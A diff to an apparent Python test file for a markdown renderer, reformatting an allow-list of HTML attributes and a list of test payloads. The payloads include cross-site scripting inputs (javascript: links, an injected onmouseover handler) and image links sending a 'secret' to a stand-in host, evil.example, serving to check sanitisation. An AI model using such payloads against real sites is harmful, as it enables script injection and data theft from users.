@@ -9,7 +9,15 @@ from hypothesis import strategies as st
 
 from arena.markdown import LONGEST, MOST_HIGHLIGHTED, TAGS, render
 
-ALLOWED = {("a", "href"), ("a", "title"), ("a", "rel"), ("code", "class"), ("span", "class"), ("ol", "start")}
+ALLOWED = {
+    ("a", "href"),
+    ("a", "title"),
+    ("a", "rel"),
+    ("code", "class"),
+    ("span", "class"),
+    ("ol", "start"),
+    ("pre", "tabindex"),
+}
 
 
 class Found(HTMLParser):
@@ -106,7 +114,7 @@ PAYLOADS = [
     "[x][y]\n\n[y]: javascript:alert(1)",
     "[y]: <javascript:alert(1)> 'x'\n\n[y]",
     "<javascript:alert(1)>",
-    "<https://a.example/\"onmouseover=alert(1)>",
+    '<https://a.example/"onmouseover=alert(1)>',
     "![x](https://evil.example/?q=secret)",
     "![x](data:image/png;base64,AAAA)",
     "![x][y]\n\n[y]: https://evil.example/x.png",
